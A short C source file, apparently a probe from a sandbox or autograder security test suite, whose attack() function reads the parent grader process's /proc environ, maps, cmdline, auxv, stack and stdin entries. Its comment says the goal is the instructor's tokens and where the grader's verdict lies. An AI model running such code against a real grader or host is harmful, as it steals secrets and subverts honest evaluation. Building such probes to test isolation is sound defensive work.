/* The grader's environment and maps: tokens of the instructor, and where the verdict lies. */
#include "attack.h"

static void attack(void)
{
    static const char *const names[] = {"environ", "maps", "cmdline", "auxv", "stack", "fd/0"};
    char path[64];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", getppid(), names[i]);
        try_read(path);
    }
}
